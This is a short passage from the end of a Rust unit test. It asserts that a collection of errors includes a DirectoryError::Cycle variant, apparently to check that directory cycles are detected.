    assert!(errors.iter().any(|error| matches!(error, DirectoryError::Cycle { .. })));
}
